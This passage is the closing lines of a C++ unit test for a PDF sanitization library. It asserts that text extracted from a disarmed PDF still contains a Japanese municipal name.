  EXPECT_TRUE(contains(pdftotext(cdr.path), "宗像市役所"));
}

}  // namespace
}  // namespace sanso::sanitize::pdf
